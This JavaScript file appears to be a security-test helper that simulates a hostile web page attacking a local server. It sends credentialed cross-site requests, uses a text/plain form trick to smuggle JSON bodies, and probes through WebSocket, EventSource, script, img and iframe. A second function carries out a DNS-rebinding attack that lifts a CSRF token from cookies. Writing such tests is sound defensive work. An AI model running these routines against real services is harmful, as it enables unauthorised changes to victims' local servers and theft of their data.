// What a stranger's page does; read as text and run in the browser.

/** Runs in the page: cross-site forms, fetches without CORS, sockets, streams, frames. */
async function attackFromPage({ doors, paths, bodies, reads, pages }) {
  const ended = []
  const told = []
  const quiet = () => undefined
  for (const door of doors) {
    for (const path of paths) {
      const url = `http://${door}${path}`
      for (const body of bodies)
        for (const type of ['text/plain', 'application/x-www-form-urlencoded'])
          ended.push(
            fetch(url, {
              method: 'POST',
              mode: 'no-cors',
              credentials: 'include',
              headers: { 'content-type': type },
              body,
            }).catch(quiet),
          )
      for (const method of ['DELETE', 'PATCH', 'PUT', 'POST'])
        ended.push(
          fetch(url, {
            method,
            credentials: 'include',
            headers: { 'content-type': 'application/json' },
            body: bodies.at(-1),
          }).catch(quiet),
        )
      // A form of text is JSON when its one field is named like the start of it, up to a "=".
      for (const [name, value] of [['{"a":"', '"}'], bodies.at(-1).split('=')]) {
        const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` })
        const form = Object.assign(document.createElement('form'), {
          action: url,
          method: 'post',
          enctype: 'text/plain',
          target: frame.name,
        })
        form.append(Object.assign(document.createElement('input'), { name, value }))
        document.body.append(frame, form)
        form.submit()
      }
      ended.push(
        new Promise((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'))
          socket.onopen = socket.onerror = socket.onclose = resolve
        }),
      )
    }
    for (const path of reads) {
      const url = `http://${door}${path}`
      ended.push(
        fetch(url, { credentials: 'include' })
          .then(async (answer) => void told.push(`fetch ${url} ${await answer.text()}`))
          .catch(quiet),
        new Promise((resolve) => {
          const stream = new EventSource(url, { withCredentials: true })
          const tell = ({ type, data }) => void told.push(`stream ${url} ${type} ${data}`)
          for (const name of ['open', 'message', 'task', 'log', 'end'])
            stream.addEventListener(name, tell)
          stream.onerror = () => {
            stream.close()
            resolve()
          }
        }),
      )
      for (const [tag, place] of [
        ['script', 'src'],
        ['img', 'src'],
      ])
        ended.push(
          new Promise((resolve) => {
            const element = document.createElement(tag)
            element.onload = () => resolve(told.push(`${tag} ${url}`))
            element.onerror = resolve
            element[place] = url
            document.body.append(element)
          }),
        )
    }
    for (const path of pages)
      for (const [tag, place] of [
        ['iframe', 'src'],
        ['object', 'data'],
        ['embed', 'src'],
      ]) {
        const element = document.createElement(tag)
        element[place] = `http://${door}${path}`
        document.body.append(element)
      }
  }
  await Promise.race([Promise.all(ended), new Promise((resolve) => setTimeout(resolve, 20_000))])
  return told.map((each) => each.slice(0, 300))
}

/** Runs in a page whose name was rebound: to the browser, what it asks is its own server. */
async function attackRebound({ paths, bodies, reads, pages }) {
  const through = []
  const ask = async (method, path, init) => {
    const answer = await fetch(path, { method, ...init }).catch(() => undefined)
    if (answer?.ok) through.push(`${method} ${location.host}${path}`)
  }
  for (const path of paths)
    for (const body of bodies)
      for (const method of ['POST', 'DELETE', 'PUT'])
        await ask(method, path, {
          headers: {
            'content-type': 'application/json',
            'x-csrf-token': document.cookie.replace(/.*_csrf=/, ''),
          },
          body,
        })
  for (const path of [...reads, ...pages])
    await ask('GET', path, { headers: { accept: 'text/html, text/event-stream' } })
  return through
}

Object.assign(globalThis, { attackFromPage, attackRebound })
